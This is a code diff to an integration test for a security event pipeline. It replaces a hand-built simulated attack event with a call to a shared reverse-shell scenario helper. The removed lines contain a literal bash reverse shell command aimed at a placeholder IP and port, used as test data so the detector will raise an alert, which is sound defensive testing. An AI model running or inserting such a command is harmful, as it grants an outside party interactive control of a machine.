@@ -39,37 +39,14 @@ from pipeline.commands.init import apply_migrations, create_topics, load_migrati
 from pipeline.config import Settings, load_settings
 from pipeline.outputs.clickhouse.client import connect
 from pipeline.schema import codec_for
+from pipeline.sim.scenarios import reverse_shell_event
 from pipeline.sim.simulate import FleetSimulator
 from tests.conftest import free_port
 from tests.integration.helpers import WorkerProcess
 
 
 def attack(n: int, run_id: str) -> dict[str, Any]:
-    shell = "bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'"
-    return {
-        "event_id": str(uuid.uuid4()),
-        "ts": now_ms(),
-        "tenant": "acme",
-        "sandbox_id": f"atk-{run_id}-{n:05d}",
-        "seq": 1,
-        "category": "process",
-        "action": "exec",
-        "level": "notice",
-        "outcome": "success",
-        "actor": {
-            "user": "agent",
-            "uid": 1000,
-            "pid": 7,
-            "ppid": 1,
-            "process": "bash",
-            "cmdline": shell,
-        },
-        "object": "/usr/bin/bash",
-        "bytes": None,
-        "attributes": {},
-        "prev_hash": None,
-        "hash": None,
-    }
+    return reverse_shell_event(str(uuid.uuid4()), "acme", f"atk-{run_id}-{n:05d}", now_ms())
 
 
 async def consume_alerts(bootstrap: str, topic: str, out_path: str) -> None:
